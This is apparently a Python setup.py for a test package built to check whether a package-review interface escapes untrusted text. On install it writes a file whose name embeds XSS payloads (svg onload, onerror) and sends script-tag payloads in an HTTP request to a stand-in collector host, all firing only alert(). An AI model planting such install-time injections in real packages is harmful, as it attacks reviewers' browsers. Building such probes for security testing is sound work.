# Test package: every piece of text it controls is a script-injection attempt aimed at
# the reviewer's browser (description, a file name, the HTTP payload it sends).
import urllib.request

from setuptools import setup

with open('/tmp/<svg onload=alert(4)>" onerror="alert(5).txt', "w") as out:
    out.write("x")
try:
    urllib.request.urlopen(
        "http://collector.example/javascript:alert(6)",
        data=b'<script>alert(7)</script><img src=x onerror="alert(8)">', timeout=5)
except OSError:
    pass

setup(name="hostile-text", version="0.1.0", packages=["hostile_text"])
